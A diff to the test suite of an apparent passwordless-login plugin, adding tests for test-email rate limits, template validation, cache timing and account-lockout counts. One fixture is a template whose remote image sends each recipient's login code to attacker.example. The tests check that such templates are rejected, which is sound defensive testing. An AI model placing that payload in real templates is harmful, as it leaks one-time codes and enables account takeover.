@@ -130,6 +130,17 @@ describe('test email', () => {
   it('refuses a locale that is not a tag', async () => {
     expectError(await call('post', '/test-email', readOnly, { locale: 'x y' }), 400, 'INVALID_BODY');
   });
+
+  it('at most 5 per admin in 10 minutes: an admin may change their own address, so the button must not mail anyone at will', async () => {
+    const admin = await createAdmin(app.strapi, [A.templatesRead]);
+    for (let i = 0; i < 5; i += 1) expect((await call('post', '/test-email', admin, {})).status).toBe(200);
+    const sixth = await call('post', '/test-email', admin, {});
+    expectError(sixth, 429, 'TEST_EMAIL_RATE_LIMITED');
+    expect(Number(sixth.headers['retry-after'])).toBeGreaterThan(0);
+    expect(app.ses.to(admin.email)).toHaveLength(5);
+    // Another admin has a quota of their own.
+    expect((await call('post', '/test-email', readOnly, {})).status).toBe(200);
+  });
 });
 
 describe('templates', () => {
@@ -193,6 +204,9 @@ describe('templates', () => {
     ['a number as a template', { default: { subject: 42 }, locales: {} }, 'default.subject'],
     ['a subject over 255 characters', { default: { subject: 'x'.repeat(256) }, locales: {} }, 'default.subject'],
     ['no locales object', { default: {} }, ''],
+    // The mail client would fetch the image, and with it each recipient's code, on opening.
+    ['a remote image carrying the code', { default: { html: '<p><%= CODE %></p><img src="https://attacker.example/?c=<%= CODE %>">' }, locales: {} }, 'default.html'],
+    ['the link outside an <a href>', { default: { html: '<p><%= CODE %></p><img src="<%= URL %>">' }, locales: {} }, 'default.html'],
   ])('refuses %s with 400 INVALID_TEMPLATE naming the field; nothing is saved', async (_name, body, path) => {
     await call('put', '/templates', superAdmin, { default: { subject: 'Kept' }, locales: {} });
     const res = await call('put', '/templates', superAdmin, body);
@@ -226,6 +240,28 @@ describe('access', () => {
     await app.settle();
     expect(app.ses.to(user.email)).toHaveLength(sent);
     expectError(await verify(app, user.email, code!), 400, 'INVALID_CODE');
+  });
+
+  it('the saved lists are read for unknown identifiers too, so an expired cache does not time known accounts apart', async () => {
+    const realStore = app.strapi.store;
+    let reads = 0;
+    app.strapi.store = (...args: unknown[]) => {
+      const store = realStore.apply(app.strapi, args);
+      return {
+        ...store,
+        get: (params: { key?: string }) => {
+          if (params?.key === 'passwordless-access') reads += 1;
+          return store.get(params);
+        },
+      };
+    };
+    try {
+      app.advanceClock(6_000); // past the 5-second cache
+      await verify(app, newEmail('nobody'), '000000');
+      expect(reads).toBeGreaterThan(0);
+    } finally {
+      app.strapi.store = realStore;
+    }
   });
 
   it('an allow entry admits only its domain; deny wins over allow', async () => {
@@ -269,12 +305,16 @@ describe('activity chart', () => {
     const { code } = lastEmail(app, user.email);
     await verify(app, user.email, wrongCode(code!));
     await verify(app, user.email, code!);
+    // Ten wrong codes spend another account's failure budget: one lock.
+    const victim = await createUser(app.strapi);
+    for (let i = 0; i < 10; i += 1) await verify(app, victim.email, '000000');
     const { body } = await call('get', '/stats', readOnly);
     expect(body.hours).toHaveLength(24);
     const now = body.hours.at(-1);
     expect(new Date(now.hour).getTime()).toBe(Math.floor(Date.now() / 3_600_000) * 3_600_000);
     expect(now.requested - before.requested).toBe(1);
-    expect(now.failed - before.failed).toBe(1);
+    expect(now.failed - before.failed).toBe(11);
+    expect(now.locked - before.locked).toBe(1);
     expect(now.succeeded - before.succeeded).toBe(1);
     // Shared between instances: the counts are rows in the database, not this process's memory.
     const rows = await app.strapi.db.connection('up_passwordless_stats').select('event', 'total');
